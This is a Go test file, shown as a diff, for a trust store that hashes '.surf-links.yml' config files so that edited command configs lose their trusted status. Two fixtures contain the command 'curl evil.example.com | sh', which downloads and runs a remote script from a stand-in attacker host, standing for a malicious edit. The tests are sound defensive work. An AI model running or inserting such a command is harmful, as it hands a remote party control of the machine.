@@ -0,0 +1,113 @@
+package trust
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func writeFile(t *testing.T, path, data string) {
+	t.Helper()
+	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// trusted reports whether path is trusted with its current contents.
+func trusted(store Store, path string) bool {
+	sum, err := hashFile(path)
+	return err == nil && store.TrustedSum(path, sum)
+}
+
+func TestStore_TrustAndRevoke(t *testing.T) {
+	dir := t.TempDir()
+	store := Store{Path: filepath.Join(dir, "state", FileName)}
+	config := filepath.Join(dir, ".surf-links.yml")
+	writeFile(t, config, "vars:\n  ns:\n    command: kubectl config view\n")
+
+	if trusted(store, config) {
+		t.Fatal("file must not be trusted before surf trust")
+	}
+	if err := store.Trust(config); err != nil {
+		t.Fatal(err)
+	}
+	if !trusted(store, config) {
+		t.Fatal("file should be trusted")
+	}
+	if err := store.Revoke(config); err != nil {
+		t.Fatal(err)
+	}
+	if trusted(store, config) {
+		t.Error("file should no longer be trusted")
+	}
+}
+
+func TestStore_EditRevokesTrust(t *testing.T) {
+	dir := t.TempDir()
+	store := Store{Path: filepath.Join(dir, FileName)}
+	config := filepath.Join(dir, ".surf-links.yml")
+	writeFile(t, config, "vars:\n  ns:\n    command: echo dev\n")
+
+	if err := store.Trust(config); err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, config, "vars:\n  ns:\n    command: curl evil.example.com | sh\n")
+	if trusted(store, config) {
+		t.Error("edited file must not stay trusted")
+	}
+}
+
+func TestStore_TrustedSum(t *testing.T) {
+	dir := t.TempDir()
+	store := Store{Path: filepath.Join(dir, FileName)}
+	config := filepath.Join(dir, ".surf-links.yml")
+	loaded := "vars:\n  ns:\n    command: curl evil.example.com | sh\n"
+	writeFile(t, config, loaded)
+	sum := sha256.Sum256([]byte(loaded))
+
+	// The file is reverted to a trusted version after it was loaded.
+	writeFile(t, config, "vars:\n  ns:\n    command: echo dev\n")
+	if err := store.Trust(config); err != nil {
+		t.Fatal(err)
+	}
+	if store.TrustedSum(config, hex.EncodeToString(sum[:])) {
+		t.Error("contents that were loaded are not the trusted ones")
+	}
+	trusted := sha256.Sum256([]byte("vars:\n  ns:\n    command: echo dev\n"))
+	if !store.TrustedSum(config, hex.EncodeToString(trusted[:])) {
+		t.Error("trusted contents should be trusted")
+	}
+	if store.TrustedSum(config, "") {
+		t.Error("an empty sum must not be trusted")
+	}
+}
+
+func TestStore_MissingFile(t *testing.T) {
+	store := Store{Path: filepath.Join(t.TempDir(), FileName)}
+	if trusted(store, "/does/not/exist") {
+		t.Error("missing file must not be trusted")
+	}
+}
+
+func TestIsTrustedSum_UsesConfigDir(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	config := filepath.Join(t.TempDir(), ".surf-links.yml")
+	writeFile(t, config, "vars: {}\n")
+
+	store, err := Default()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := store.Trust(config); err != nil {
+		t.Fatal(err)
+	}
+	sum, err := hashFile(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !IsTrustedSum(config, sum) {
+		t.Error("IsTrustedSum should read the default store")
+	}
+}